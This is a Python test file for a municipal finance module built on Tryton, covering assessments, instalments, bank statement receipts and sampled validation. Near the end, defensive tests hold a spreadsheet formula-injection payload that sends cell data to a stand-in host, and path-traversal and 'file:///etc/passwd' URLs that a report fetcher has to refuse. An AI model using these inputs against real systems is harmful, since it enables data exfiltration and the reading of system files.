# This file is part of Pontica.  The COPYRIGHT file at the top level of
# this repository contains the full copyright notices and license terms.
import datetime as dt
from decimal import Decimal
from unittest.mock import patch

from trytond.modules.account.tests import create_chart, get_fiscalyear
from trytond.modules.account_invoice.tests import set_invoice_sequences
from trytond.modules.company.tests import (
    CompanyTestMixin, create_company, set_company)
from trytond.exceptions import UserError
from trytond.pool import Pool
from trytond.tests.test_tryton import ModuleTestCase, with_transaction
from trytond.transaction import Transaction

from muni_base.tests.views import SaoViewsMixin


class MunicipalChartTestMixin:
    "Check that a localisation's chart template can carry local revenues"
    chart = None
    currency = None

    @with_transaction()
    def test_municipal_chart(self):
        "The municipal chart posts a tax receivable against its revenue"
        pool = Pool()
        Account = pool.get('account.account')
        Currency = pool.get('currency.currency')
        Journal = pool.get('account.journal')
        Move = pool.get('account.move')
        Party = pool.get('party.party')
        Period = pool.get('account.period')
        FiscalYear = pool.get('account.fiscalyear')

        currency, = Currency.create([{
                    'name': self.currency, 'code': self.currency,
                    'symbol': self.currency}])
        company = create_company(currency=currency)
        with set_company(company):
            create_chart(company, chart=self.chart)
            fiscalyear = set_invoice_sequences(get_fiscalyear(
                    company, today=dt.date(2026, 6, 30)))
            fiscalyear.save()
            FiscalYear.create_period([fiscalyear])

            def leaves(kind):
                return Account.search([
                        ('company', '=', company.id),
                        (f'type.{kind}', '=', True),
                        ('closed', '=', False),
                        ], order=[('code', 'ASC')])
            receivables = leaves('receivable')
            revenues = leaves('revenue')
            self.assertTrue(leaves('payable'))
            self.assertTrue(leaves('expense'))
            self.assertTrue(all(a.party_required for a in receivables))
            self.assertTrue(all(a.reconcile for a in receivables))
            self.assertGreaterEqual(len(revenues), 8)

            taxpayer, = Party.create([{'name': "Taxpayer"}])
            self.assertEqual(taxpayer.account_receivable_used, receivables[0])
            date = dt.date(2026, 6, 30)
            journal, = Journal.search([('code', '=', 'REV')])
            move, = Move.create([{
                        'company': company.id,
                        'journal': journal.id,
                        'period': Period.find(company, date=date).id,
                        'date': date,
                        'lines': [('create', [{
                                        'account': receivables[0].id,
                                        'party': taxpayer.id,
                                        'debit': Decimal('61.20'),
                                        'credit': 0,
                                        'maturity_date': date,
                                        }, {
                                        'account': revenues[0].id,
                                        'debit': 0,
                                        'credit': Decimal('61.20'),
                                        }])],
                        }])
            Move.post([move])
            self.assertEqual(move.state, 'posted')
            taxpayer = Party(taxpayer.id)
            self.assertEqual(taxpayer.receivable, Decimal('61.20'))


def setup_municipality():
    "A municipality with its books, a fixed fee and its 2026 rates"
    pool = Pool()
    Account = pool.get('account.account')
    Country = pool.get('country.country')
    FiscalYear = pool.get('account.fiscalyear')
    RevenueType = pool.get('muni.revenue.type')
    RateTable = pool.get('muni.rate.table')

    country, = Country.create([{'name': "Bulgaria", 'code': 'BG'}])
    company = create_company()
    company.country = country
    company.save()
    with set_company(company):
        create_chart(company)
        fiscalyear = set_invoice_sequences(get_fiscalyear(
                company, today=dt.date(2026, 6, 30)))
        fiscalyear.save()
        FiscalYear.create_period([fiscalyear])
        receivable, = Account.search([
                ('company', '=', company.id),
                ('type.receivable', '=', True),
                ('closed', '=', False),
                ], limit=1)
        revenue, = Account.search([
                ('company', '=', company.id),
                ('type.revenue', '=', True),
                ('closed', '=', False),
                ], limit=1)
        fee = RevenueType(
            code='DOG', name="Dog fee", kind='fee', calculator='fixed',
            object_kinds=['other'])
        fee.receivable_account = receivable
        fee.revenue_account = revenue
        fee.save()
        table, = RateTable.create([{
                    'company': company.id,
                    'revenue_type': fee.id,
                    'year': 2026,
                    'legal_basis': "Ordinance (test)",
                    'lines': [('create', [{
                                    'key': 'amount',
                                    'value': Decimal('12.01')}])],
                    'instalments': [('create', [{
                                    'due_date': dt.date(2026, 6, 30),
                                    'fraction': Decimal('0.5'),
                                    }, {
                                    'due_date': dt.date(2026, 10, 31),
                                    'fraction': Decimal('0.5'),
                                    }])],
                    }])
    return company, fee, table


def setup_suspense(bank):
    "A suspense account for the receipts of bank files, like the bank's"
    pool = Pool()
    Account = pool.get('account.account')
    Configuration = pool.get('muni.finance.configuration')
    suspense, = Account.copy([bank], default={
            'name': "Suspense", 'reconcile': True})
    config = Configuration(1)
    config.suspense_account = suspense
    config.save()
    return suspense


def setup_bank(company):
    """The bank account, the statement journal and a statement journal of
    the company's currency, balance validated"""
    pool = Pool()
    Account = pool.get('account.account')
    Journal = pool.get('account.journal')
    StatementJournal = pool.get('account.statement.journal')
    cash, = Account.search([
            ('company', '=', company.id),
            ('type.receivable', '=', False),
            ('type.payable', '=', False),
            ('type', '!=', None),
            ('closed', '=', False),
            ('party_required', '=', False),
            ], limit=1)
    journal, = Journal.search([('code', '=', 'STA')], limit=1)
    statement_journal, = StatementJournal.create([{
                'name': "Bank", 'journal': journal.id, 'account': cash.id,
                'currency': company.currency.id, 'validation': 'balance',
                }])
    return cash, journal, statement_journal


class MuniFinanceTestCase(
        SaoViewsMixin, CompanyTestMixin, ModuleTestCase):
    "Test the muni_finance module"
    module = 'muni_finance'

    @with_transaction()
    def test_shares_add_up_to_one(self):
        "The owners' shares add up to one at every date"
        pool = Pool()
        Party = pool.get('party.party')
        TaxObject = pool.get('muni.tax.object')
        company = create_company()
        a, b, c = Party.create([{'name': n} for n in 'ABC'])
        with set_company(company):
            # A sells to B and C on 1 July; no day is owned twice
            object_, = TaxObject.create([{
                        'kind': 'other', 'reference': 'X',
                        'owners': [('create', [
                                    {'party': a.id, 'share': 1,
                                        'end_date': dt.date(2026, 7, 1)},
                                    {'party': b.id, 'share': Decimal('0.5'),
                                        'start_date': dt.date(2026, 7, 1)},
                                    {'party': c.id, 'share': Decimal('0.5'),
                                        'start_date': dt.date(2026, 7, 1)},
                                    ])],
                        }])
            with self.assertRaisesRegex(
                    UserError, "add up to 2.0 on 2026-07-01"):
                TaxObject.write([object_], {'owners': [('write',
                                [object_.owners[0].id],
                                {'end_date': dt.date(2026, 8, 1)})]})

    def test_levy_batch_sizes(self):
        """A levy's batches hold its batch size of objects, but the last
        batch size of them, cut in halves down to 100"""
        from muni_finance.levy import LevyRun
        for count, batch_size, sizes in [
                (1000, 500, [500, 250, 125, 125]),
                (2300, 500, [500, 500, 500, 500, 150, 150]),
                (60, 10, [10] * 6),
                (4, 2, [2, 2]),
                (150, 500, [150]),
                (0, 500, []),
                ]:
            with self.subTest(count=count, batch_size=batch_size):
                self.assertEqual(
                    LevyRun.batch_sizes(count, batch_size), sizes)

    @with_transaction()
    def test_months_in(self):
        "Months owned count the months of acquisition and disposal"
        Owner = Pool().get('muni.tax.object.owner')
        for start, end, months in [
                (None, None, 12),
                (dt.date(2026, 3, 10), None, 10),
                (None, dt.date(2026, 9, 15), 9),
                (dt.date(2025, 3, 1), dt.date(2025, 12, 1), 0),
                (dt.date(2027, 1, 1), None, 0),
                ]:
            owner = Owner(start_date=start, end_date=end)
            self.assertEqual(owner.months_in(2026), months)

    @with_transaction()
    def test_schedule(self):
        "Instalments move to working days and the odd cent goes last"
        company, fee, table = setup_municipality()
        self.assertEqual(table.schedule(company, Decimal('12.01')), [
                (dt.date(2026, 6, 30), Decimal('6.00')),
                # 31 October 2026 is a Saturday
                (dt.date(2026, 11, 2), Decimal('6.01')),
                ])

    @with_transaction()
    def test_rate_range(self):
        "A council rate outside the statutory range is refused"
        pool = Pool()
        Range = pool.get('muni.rate.range')
        Line = pool.get('muni.rate.table.line')
        company, fee, table = setup_municipality()
        Range.create([{
                    'revenue_type': fee.id, 'key': 'amount',
                    'minimum': Decimal(5), 'maximum': Decimal(20),
                    'start_year': 2026, 'legal_basis': "Law, art. 1"}])
        with self.assertRaisesRegex(UserError, "outside the range"):
            Line.create([{
                        'table': table.id, 'key': 'amount',
                        'value': Decimal('25')}])
        # a range of another period does not apply
        Range.create([{
                    'revenue_type': fee.id, 'key': 'amount',
                    'minimum': Decimal(1), 'maximum': Decimal(2),
                    'end_year': 2025, 'legal_basis': "Law, art. 1 (old)"}])
        Line.create([{
                    'table': table.id, 'key': 'amount',
                    'value': Decimal('19')}])

    @with_transaction()
    def test_post_and_cancel(self):
        "An assessment is posted per instalment and cancelled by reversal"
        pool = Pool()
        Assessment = pool.get('muni.assessment')
        Party = pool.get('party.party')
        TaxObject = pool.get('muni.tax.object')
        company, fee, table = setup_municipality()
        party, = Party.create([{'name': "Owner"}])
        with set_company(company):
            dog, = TaxObject.create([{
                        'kind': 'other', 'reference': "Rex",
                        'owners': [('create', [{'party': party.id}])]}])
            assessment, = Assessment.create([{
                        'party': party.id, 'revenue_type': fee.id,
                        'object': dog.id, 'year': 2026,
                        'date': dt.date(2026, 1, 15),
                        'amount': Decimal('12.01')}])
            Assessment.post([assessment])
            self.assertEqual(assessment.state, 'posted')
            self.assertEqual(assessment.move.state, 'posted')
            self.assertEqual(
                [(l.maturity_date, l.debit) for l in assessment.instalments],
                [(dt.date(2026, 6, 30), Decimal('6.00')),
                    (dt.date(2026, 11, 2), Decimal('6.01'))])
            self.assertEqual(Party(party.id).receivable, Decimal('12.01'))
            with self.assertRaisesRegex(UserError, "posted"):
                Assessment.delete([assessment])

            Assessment.cancel([assessment])
            self.assertEqual(assessment.state, 'cancelled')
            self.assertEqual(assessment.cancel_move.state, 'posted')
            self.assertTrue(all(
                    l.reconciliation for l in assessment.instalments))
            self.assertEqual(Party(party.id).receivable, Decimal(0))
            # the taxpayer can be assessed again, once
            Assessment.create([{
                        'party': party.id, 'revenue_type': fee.id,
                        'object': dog.id, 'year': 2026,
                        'amount': Decimal(1)}])
            with self.assertRaisesRegex(UserError, "already assessed"):
                Assessment.create([{
                            'party': party.id, 'revenue_type': fee.id,
                            'object': dog.id, 'year': 2026,
                            'amount': Decimal(1)}])

    @with_transaction()
    def test_lines_checked_by_sample(self):
        "Lines built from checked values are validated by sample, not less"
        pool = Pool()
        Account = pool.get('account.account')
        Journal = pool.get('account.journal')
        Move = pool.get('account.move')
        Line = pool.get('account.move.line')
        Period = pool.get('account.period')
        Party = pool.get('party.party')
        from muni_finance.sampling import create_checked
        company, fee, _ = setup_municipality()
        party, = Party.create([{'name': "Payer"}])
        with set_company(company):
            view, = Account.search([
                    ('company', '=', company.id),
                    ('type', '=', None),
                    ], limit=1)
            journal, = Journal.search([('code', '=', 'REV')])
            date = dt.date(2026, 3, 16)
            move, = Move.create([{
                        'journal': journal.id, 'date': date,
                        'period': Period.find(company, date=date).id}])

            def receivable(debit, account=fee.receivable_account):
                return {'move': move.id, 'account': account.id,
                    'party': party.id, 'maturity_date': date,
                    'debit': debit, 'credit': Decimal(0)}
            bulk = [receivable(Decimal(i)) for i in range(1, 6)] + [{
                    'move': move.id, 'account': fee.revenue_account.id,
                    'debit': Decimal(0), 'credit': Decimal(15)}]
            self.assertEqual(len(create_checked(Line, bulk)), 6)
            # a line unlike the others is a sample of its own
            with self.assertRaises(UserError):
                create_checked(Line, bulk + [receivable(Decimal(1), view)])
            # an amount the currency cannot hold is checked on its own
            with self.assertRaises(UserError):
                create_checked(Line, bulk + [receivable(Decimal('1.001'))])

    @with_transaction()
    def test_statement_lines_checked_by_sample(self):
        "The receipts of a file are validated by sample, not less"
        pool = Pool()
        Account = pool.get('account.account')
        Statement = pool.get('account.statement')
        Line = pool.get('account.statement.line')
        from muni_finance.sampling import create_checked
        company, fee, _ = setup_municipality()
        with set_company(company):
            cash, journal, statement_journal = setup_bank(company)
            view, = Account.search([
                    ('company', '=', company.id),
                    ('type', '=', None),
                    ], limit=1)
            statement, = Statement.create([{
                        'name': "16 March", 'journal': statement_journal.id,
                        'date': dt.date(2026, 3, 16),
                        'start_balance': Decimal(0),
                        'end_balance': Decimal(0),
                        }])

            def receipt(amount, account=cash):
                return {'statement': statement.id, 'account': account.id,
                    'date': dt.date(2026, 3, 16), 'amount': amount,
                    'receipt_state': 'unknown'}
            bulk = [receipt(Decimal(i)) for i in range(1, 6)]
            self.assertEqual(len(create_checked(Line, bulk)), 5)
            # a line unlike the others is a sample of its own
            with self.assertRaises(UserError):
                create_checked(Line, bulk + [receipt(Decimal(1), view)])
            # an amount the currency cannot hold is checked on its own
            with self.assertRaises(UserError):
                create_checked(Line, bulk + [receipt(Decimal('1.001'))])

    @with_transaction()
    def test_statement_receipts_posted_in_moves_of_limited_size(self):
        "The receipts of a file are posted in balanced moves of a bounded size"
        pool = Pool()
        Statement = pool.get('account.statement')
        Origin = pool.get('account.statement.origin')
        Line = pool.get('account.statement.line')
        from muni_finance import statement as statement_module
        company, fee, _ = setup_municipality()
        with set_company(company):
            bank, journal, statement_journal = setup_bank(company)
            suspense = setup_suspense(bank)
            date = dt.date(2026, 3, 16)
            amounts = [Decimal(i) for i in range(1, 6)]
            statement, = Statement.create([{
                        'name': "16 March", 'journal': statement_journal.id,
                        'date': date,
                        'start_balance': Decimal(0),
                        'end_balance': sum(amounts),
                        }])
            origins = Origin.create([{
                        'statement': statement.id, 'date': date,
                        'amount': amount, 'number': str(i),
                        'description': "no taxpayer named",
                        } for i, amount in enumerate(amounts)])
            size = statement_module.RECEIPTS_PER_MOVE
            statement_module.RECEIPTS_PER_MOVE = 2
            try:
                Statement.receive([statement])
            finally:
                statement_module.RECEIPTS_PER_MOVE = size
            statement = Statement(statement.id)
            self.assertEqual(statement.state, 'posted')
            self.assertEqual(len(statement.lines), 5)
            moves = {l.move for l in statement.lines}
            # the origins are cut by the order of the file, two by two
            self.assertEqual(len(moves), len({o.id // 2 for o in origins}))
            for move in moves:
                self.assertEqual(move.state, 'posted')
                receipts = [l for l in move.lines if l.account == suspense]
                self.assertLessEqual(len(receipts), 2)
                self.assertEqual(
                    sum(l.debit - l.credit for l in move.lines), 0)
            self.assertEqual(sum(l.credit for m in moves for l in m.lines
                    if l.account == suspense), sum(amounts))
            self.assertEqual(
                {l.receipt_state for l in statement.lines}, {'unknown'})

            # an origin the accountant had split, partly: posting is refused
            partial, = Statement.create([{
                        'name': "18 March", 'journal': statement_journal.id,
                        'date': date, 'start_balance': Decimal(0),
                        'end_balance': sum(amounts) - 1,
                        }])
            origins = Origin.create([{
                        'statement': partial.id, 'date': date,
                        'amount': amount, 'number': str(i),
                        'description': "no taxpayer named",
                        } for i, amount in enumerate(amounts)])
            Line.create([{
                        'statement': partial.id, 'origin': origins[-1].id,
                        'date': date, 'amount': amounts[-1] - 1,
                        'account': suspense.id,
                        }])
            with self.assertRaises(UserError) as error:
                Statement.receive([partial])
            self.assertIn("1.00", error.exception.message)
            self.assertIn(origins[-1].rec_name, error.exception.message)
            wrong, = Statement.create([{
                        'name': "17 March", 'journal': statement_journal.id,
                        'date': date, 'start_balance': sum(amounts),
                        'end_balance': 2 * sum(amounts) + 1,
                        }])
            Origin.create([{
                        'statement': wrong.id, 'date': date,
                        'amount': amount, 'number': str(i),
                        'description': "no taxpayer named",
                        } for i, amount in enumerate(amounts)])
            with self.assertRaises(UserError) as error:
                Statement.receive([wrong])
            self.assertIn("31.00", error.exception.message)
            self.assertIn("30.00", error.exception.message)

    @with_transaction()
    def test_statement_receipt_without_matcher_to_suspense(self):
        """A taxpayer named on a line of a municipality whose localisation
        has no matcher and no allocation rule: the statement is received,
        the line waits in suspense (it failed whole: "no allocation rule")"""
        pool = Pool()
        Statement = pool.get('account.statement')
        Origin = pool.get('account.statement.origin')
        Party = pool.get('party.party')
        Taxpayer = pool.get('muni.taxpayer')
        Payment = pool.get('muni.payment')
        company, fee, _ = setup_municipality()
        self.assertFalse(company.localisation)
        party, = Party.create([{'name': "Payer",
                    'identifiers': [('create', [{'code': '1800101221144'}])],
                    }])
        date = dt.date(2026, 3, 16)
        with set_company(company):
            bank, journal, statement_journal = setup_bank(company)
            suspense = setup_suspense(bank)
            taxpayer = Taxpayer.get_or_create(company, [party])[party.id]
            statement, = Statement.create([{
                        'name': "16 March", 'journal': statement_journal.id,
                        'date': date, 'start_balance': Decimal(0),
                        'end_balance': Decimal('25.00'),
                        }])
            Origin.create([{
                        'statement': statement.id, 'date': date,
                        'amount': Decimal('25.00'), 'number': '1',
                        'description': "impozit CNP 1800101221144 %s" % (
                            taxpayer.number or ''),
                        }])
            Statement.receive([statement])
            statement = Statement(statement.id)
            self.assertEqual(statement.state, 'posted')
            line, = statement.lines
            self.assertEqual(line.receipt_state, 'unknown')
            self.assertEqual(line.account, suspense)
            self.assertFalse(line.receipt_payment)
            self.assertFalse(Payment.search([]))

    @with_transaction()
    def test_reconciliations_checked_by_sample(self):
        "Reconciliations made in bulk are each checked by account"
        pool = Pool()
        Journal = pool.get('account.journal')
        Move = pool.get('account.move')
        Line = pool.get('account.move.line')
        Period = pool.get('account.period')
        Party = pool.get('party.party')
        from muni_finance import payment_posting
        from muni_finance.payment_posting import reconcile_balanced
        company, fee, _ = setup_municipality()
        # a bulk of any size is sampled, for the test
        size = payment_posting.SAMPLED_RECONCILIATIONS
        payment_posting.SAMPLED_RECONCILIATIONS = 1
        self.addCleanup(
            setattr, payment_posting, 'SAMPLED_RECONCILIATIONS', size)
        party, = Party.create([{'name': "Payer"}])
        with set_company(company):
            journal, = Journal.search([('code', '=', 'REV')])
            date = dt.date(2026, 3, 16)

            def post(amounts):
                move, = Move.create([{
                            'journal': journal.id, 'date': date,
                            'period': Period.find(company, date=date).id,
                            'lines': [('create', [{
                                            'account': (
                                                fee.receivable_account.id),
                                            'party': party.id,
                                            'debit': debit, 'credit': credit,
                                            } for debit, credit in amounts])],
                            }])
                Move.post([move])
                return sorted(move.lines, key=lambda l: l.id)
            a, b, c, d, e = post([(Decimal(5), 0), (0, Decimal(5)),
                    (Decimal(3), 0), (0, Decimal(2)), (0, Decimal(1))])
            reconcile_balanced([[a.id, b.id], [c.id, d.id, e.id]])
            lines = Line.browse([a, b, c, d, e])
            self.assertTrue(all(l.reconciliation for l in lines))
            self.assertEqual(len({l.reconciliation for l in lines}), 2)
            # the second group does not balance: account refuses it, though
            # the first is the sample of their key
            f, g, h, i, _ = post([(Decimal(5), 0), (0, Decimal(5)),
                    (Decimal(3), 0), (0, Decimal(2)), (0, Decimal(1))])
            with self.assertRaises(UserError) as error:
                reconcile_balanced([[f.id, g.id], [h.id, i.id]])
            self.assertIn("3.00", error.exception.message)

    @with_transaction()
    def test_bulk_records_checked_by_sample(self):
        "Origins, payments and allocations of a bulk: sampled, not less"
        pool = Pool()
        Statement = pool.get('account.statement')
        Origin = pool.get('account.statement.origin')
        Move = pool.get('account.move')
        Period = pool.get('account.period')
        Party = pool.get('party.party')
        Taxpayer = pool.get('muni.taxpayer')
        Assessment = pool.get('muni.assessment')
        Payment = pool.get('muni.payment')
        Allocation = pool.get('muni.payment.allocation')
        from muni_finance import sampling
        from muni_finance.sampling import create_checked, save_checked
        company, fee, _ = setup_municipality()
        party, = Party.create([{'name': "Payer"}])
        date = dt.date(2026, 3, 16)
        with set_company(company):
            cash, journal, statement_journal = setup_bank(company)
            statement, = Statement.create([{
                        'name': "16 March", 'journal': statement_journal.id,
                        'date': date, 'start_balance': Decimal(0),
                        'end_balance': Decimal(0),
                        }])

            def origin(amount):
                return {'statement': statement.id, 'date': date,
                    'amount': amount}
            taxpayer = Taxpayer.get_or_create(company, [party])[party.id]

            def payment(amount):
                return {'company': company.id, 'taxpayer': taxpayer.id,
                    'date': date, 'amount': amount, 'channel': 'bank',
                    'account': cash.id, 'journal': journal.id}
            assessment, = Assessment.create([{
                        'company': company.id, 'party': party.id,
                        'revenue_type': fee.id, 'year': 2026, 'period': '',
                        'date': date, 'amount': Decimal(10)}])
            move, = Move.create([{
                        'journal': journal.id, 'date': date,
                        'period': Period.find(company, date=date).id,
                        'lines': [('create', [{
                                        'account': fee.receivable_account.id,
                                        'party': party.id,
                                        'debit': Decimal(10),
                                        }, {
                                        'account': fee.revenue_account.id,
                                        'credit': Decimal(10)}])]}])
            line = [l for l in move.lines if l.debit][0]
            self.assertEqual(len(create_checked(Origin,
                        [origin(Decimal(i)) for i in range(1, 4)])), 3)
            # an amount the currency cannot hold is checked on its own
            with self.assertRaises(UserError):
                create_checked(Origin, [origin(Decimal(1)),
                        origin(Decimal('1.001'))])
            # and so is a free text with a forbidden character
            with self.assertRaisesRegex(UserError, "invalid chars"):
                create_checked(Origin, [origin(Decimal(1)),
                        dict(origin(Decimal(2)), description="two\nlines")])
            payments = create_checked(Payment,
                [payment(Decimal(i)) for i in range(1, 4)])
            self.assertEqual(len(payments), 3)
            # and so is the amount of each payment
            for amount in [Decimal('1.001'), Decimal(0)]:
                with self.assertRaises(UserError):
                    create_checked(
                        Payment, [payment(Decimal(1)), payment(amount)])

            def allocation(principal):
                return {'payment': payments[0].id, 'line': line.id,
                    'assessment': assessment.id, 'revenue_type': fee.id,
                    'year': 2026, 'principal': principal,
                    'interest': Decimal(0), 'discount': Decimal(0),
                    'interest_charged': Decimal(0),
                    'remaining': Decimal(0)}
            self.assertEqual(len(create_checked(Allocation,
                        [allocation(Decimal(i)) for i in range(1, 4)])),
                3)
            with self.assertRaises(UserError):
                create_checked(Allocation, [allocation(Decimal(1)),
                        allocation(Decimal('0.001'))])

            # The flag is for the bulk's own call: what that call creates on
            # the way (here the allocations of the payments, created with
            # them), and what comes after, is validated in full
            def nested(amount):
                values = allocation(amount)
                del values['payment']
                return dict(payment(amount),
                    allocations=[('create', [values])])
            seen = []

            def flags(cls):
                "The flags each _validate of a sampled model sees"
                context = Transaction().context
                seen.append((cls.__name__, context.get(sampling.CHECKED),
                        context.get(sampling.SAMPLING)))
                return context.get(sampling.SAMPLING) == cls.__name__
            spy = patch.object(sampling, 'validate_by_sample',
                wraps=sampling.validate_by_sample)
            with spy as validate_by_sample, \
                    patch.object(sampling, 'sampling', flags):
                create_checked(Payment, [nested(Decimal(i))
                        for i in range(1, 4)])
                self.assertEqual(
                    [c.args[0].__name__
                        for c in validate_by_sample.call_args_list],
                    [Payment.__name__])
                self.assertEqual(
                    {s for s in seen if s[0] == Allocation.__name__},
                    {(Allocation.__name__, None, None)})
                validate_by_sample.reset_mock()
                Payment.create([payment(Decimal(1))])
                Allocation.create([allocation(Decimal(1))])
                validate_by_sample.assert_not_called()
            # save_checked flags the records for their save only
            records = [Origin(**origin(Decimal(i))) for i in range(1, 3)]
            save_checked(records)
            self.assertTrue(all(r.id > 0 for r in records))
            self.assertFalse(
                [r for r in records if sampling.CHECKED in r._context])

    def assertSampleCovered(self, name):
        "The key of the model covers what its checks read, or says why not"
        from muni_finance.tests.sampling import declaration_errors, uncovered
        Model = Pool().get(name)
        self.maxDiff = None
        self.assertEqual(declaration_errors(Model), [])
        self.assertEqual(uncovered(Model), {},
            f"{name}: add these fields to _sample_key or to _sample_exempt "
            "with the reason")

    @with_transaction()
    def test_sample_key_assessment(self):
        "The levy's assessments: their key covers what their checks read"
        self.assertSampleCovered('muni.assessment')

    @with_transaction()
    def test_sample_key_move_line(self):
        "Move lines of a bulk: their key covers what their checks read"
        self.assertSampleCovered('account.move.line')

    @with_transaction()
    def test_sample_key_reconciliation(self):
        "Reconciliations of a bulk: their key covers what their checks read"
        self.assertSampleCovered('account.move.reconciliation')

    @with_transaction()
    def test_sample_key_statement_origin(self):
        "Origins of a bank file: their key covers what their checks read"
        self.assertSampleCovered('account.statement.origin')

    @with_transaction()
    def test_sample_key_statement_line(self):
        "Receipts of a bank file: their key covers what their checks read"
        self.assertSampleCovered('account.statement.line')

    @with_transaction()
    def test_sample_key_payment(self):
        "Payments of a bank file: their key covers what their checks read"
        self.assertSampleCovered('muni.payment')

    @with_transaction()
    def test_sample_key_payment_allocation(self):
        "Allocations of payments: their key covers what their checks read"
        self.assertSampleCovered('muni.payment.allocation')

    @with_transaction()
    def test_sample_keys_all_tested(self):
        "Every model validated by sample has the test of its key above"
        from muni_finance.tests.sampling import sampled_models
        tested = {name for name in dir(self)
            if name.startswith('test_sample_key_')}
        self.assertEqual(len(tested), len(sampled_models()))
        self.assertEqual(sampled_models(), {
                'muni.assessment', 'account.move.line',
                'account.move.reconciliation', 'account.statement.origin',
                'account.statement.line', 'muni.payment',
                'muni.payment.allocation'})

    @with_transaction()
    def test_move_line_reconciliation_read_by_no_check(self):
        """No check of a move line reads its reconciliation: a write of the
        reconciliation alone is checked by the reconciliation's checks"""
        from muni_finance.tests.sampling import checked_fields
        Line = Pool().get('account.move.line')
        self.assertNotIn('reconciliation', checked_fields(Line))

    @with_transaction()
    def test_sample_coverage_planted_field(self):
        "The test of a key fails on a new field its key does not cover"
        from trytond.model import fields

        from muni_finance.tests.sampling import uncovered
        Origin = Pool().get('account.statement.origin')
        planted = fields.Many2One(
            'account.account', "Planted", domain=[('type', '!=', None)])
        self.assertEqual(uncovered(Origin, {'planted': planted}),
            {'planted': ['domain']})
        required = fields.Date("Planted", required=True)
        self.assertEqual(uncovered(Origin, {'planted': required}),
            {'planted': ['required']})

    @with_transaction()
    def test_export_formula_safe(self):
        "Texts from outside are exported as text, never as a formula"
        pool = Pool()
        Party = pool.get('party.party')
        party, plain = Party.create([
                {'name': '=HYPERLINK("http://x.example/?"&A1,"Плати")'},
                {'name': "Иван Петров - ЕООД"}])
        for header in [False, True]:
            rows = Party.export_data([party, plain], ['name'], header=header)
            if header:
                self.assertEqual(rows.pop(0), ['Name'])
            self.assertEqual(rows, [
                    ['\'=HYPERLINK("http://x.example/?"&A1,"Плати")'],
                    ["Иван Петров - ЕООД"]])
        for text in ['+1', '-2+3', '@SUM(A1)']:
            party.name = text
            party.save()
            self.assertEqual(
                Party.export_data_domain([('id', '=', party.id)], ['name']),
                [["'" + text]])
        # a name holds no tab nor carriage return; a description may
        from muni_base.export import formula_safe
        self.assertEqual(formula_safe('\tcmd'), "'\tcmd")
        self.assertEqual(formula_safe('\r=1+1'), "'\r=1+1")
        self.assertEqual(formula_safe(Decimal('-1')), Decimal('-1'))

    def test_report_fetches_module_files_only(self):
        "The PDF of a report reads its module's files and no other URL"
        from pathlib import Path

        from trytond.tools import find_dir

        from muni_base.report import module_files_fetcher
        fetcher = module_files_fetcher('muni_finance')
        own = Path(find_dir('muni_finance')) / 'receipt.html'
        self.assertIn(b'<html', fetcher.fetch(own.as_uri()).read())
        for url in ['http://127.0.0.1:9/', 'https://example.com/logo.png',
                'file:///etc/passwd', own.parent.parent.as_uri() + '/x',
                own.as_uri().replace('muni_finance/', 'muni_finance/../'
                    '../../../../etc/passwd#'),
                'ftp://127.0.0.1/x']:
            with self.subTest(url=url), self.assertRaises(ValueError):
                fetcher.fetch(url)


del ModuleTestCase
